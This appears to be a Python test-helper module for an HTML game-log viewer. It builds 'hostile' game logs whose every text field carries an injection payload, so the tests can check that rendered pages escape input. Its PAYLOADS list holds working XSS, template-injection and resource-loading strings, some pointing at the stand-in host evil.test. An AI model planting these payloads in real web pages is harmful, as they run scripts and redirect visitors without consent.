"""Games and pages for the tests of `rclog.show`: files of `tests/show/games`, and hostile ones made here."""

import base64
import json
import re
from pathlib import Path
from typing import Any

from rclog import Replay, read, replay
from rclog.lang import language
from rclog.log.reader import read_games
from rclog.show.page.build import page_of
from rclog.show.page.frames import LETTERS
from rclog.show.view import View

GAMES = Path(__file__).parent / "games"
GOLDEN = Path(__file__).parent / "golden"

PAYLOADS = (
    "<script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    '"><script>alert(1)</script>',
    "'><img src=x onerror=alert(1)>",
    '" onmouseover="alert(1)',
    "' autofocus onfocus='alert(1)",
    "<iframe src=javascript:alert(1)>",
    "<a href=javascript:alert(1)>x</a>",
    "javascript:alert(1)",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<style>@import 'http://evil.test/a.css'</style>",
    "<link rel=stylesheet href=http://evil.test/a.css>",
    "<meta http-equiv=refresh content='0;url=http://evil.test'>",
    "<base href=http://evil.test/>",
    "<form action=http://evil.test><input autofocus onfocus=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<object data=http://evil.test/x></object>",
    "<embed src=http://evil.test/x>",
    "<!--<script>alert(1)",
    "--><script>alert(1)</script>",
    "]]><script>alert(1)</script>",
    "{{ 7*7 }}",
    "{% raw %}",
    "{{ ''.__class__.__mro__ }}",
    "${alert(1)}",
    "`${alert(1)}`",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#x3C;img src=x onerror=alert(1)>",
    "</title><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "{player} {0} {__class__} %s %(name)s",
    "__proto__",
    "constructor\u2029</li></ol><script>alert(1)</script>",
    "\u2028<math><mtext></mtext><mglyph><svg><style></style><img src=x onerror=alert(1)>",
)


def replayed(name: str) -> Replay:
    (game,) = read(GAMES / name)
    return replay(game)


def replayed_lines(lines: list[dict[str, Any]]) -> Replay:
    import io

    text = "".join(json.dumps(line) + "\n" for line in lines)
    (game,) = read_games(io.BytesIO(text.encode()), "made.jsonl")
    return replay(game)


def lines_of(name: str) -> list[dict[str, Any]]:
    return [json.loads(line) for line in (GAMES / name).read_text(encoding="utf-8").splitlines()]


def page(name: str, view: str = "all", lang: str = "en") -> str:
    game = replayed(name)
    return page_of(game, View.parse(view, len(game.game.players)), language(lang))


def hostile(payload: str, players: int = 2) -> Replay:
    """A short game in which every text of the log is the payload."""
    lines = lines_of({2: "two.jsonl", 3: "three.jsonl", 4: "four.jsonl"}[players])[:30]
    header = lines[0]
    header.update(id=payload, site=payload, occasion=payload, players=[{"name": payload} for _ in header["players"]])
    lines.insert(1, {"event": "note", "text": payload})
    lines.insert(4, {"event": "note", "text": payload, "seat": 1, "x": {payload: payload}})
    wrong = next(line for line in lines[6:] if line["event"] == "trail")
    wrong["seat"] = (wrong["seat"] + 1) % players
    return replayed_lines(lines)


def script_data(html: str) -> dict[str, Any]:
    """What the page gives to its script."""
    found = re.search(r'<script type="application/json" id="game">(.*?)</script>', html, re.S)
    assert found is not None
    data: dict[str, Any] = json.loads(found.group(1))
    return data


def frames(html: str) -> list[dict[str, Any]]:
    """The frames with every field."""
    data = script_data(html)
    whole: list[dict[str, Any]] = []
    for row in data["frames"]:
        frame = {}
        for name, value in zip(data["fields"], row, strict=True):
            frame[name] = whole[-1][name] if value == 0 else value - 2 if isinstance(value, int) else value
        whole.append(frame)
    return whole


def cards_of(letters: str) -> int:
    """The set of the cards that letters stand for."""
    cards = 0
    for letter in letters:
        cards |= 1 << LETTERS.index(letter)
    return cards


def download(html: str) -> bytes:
    """The log that the page offers."""
    found = re.search(r'href="data:application/jsonl;base64,([^"]*)"', html)
    assert found is not None
    return base64.b64decode(found.group(1))
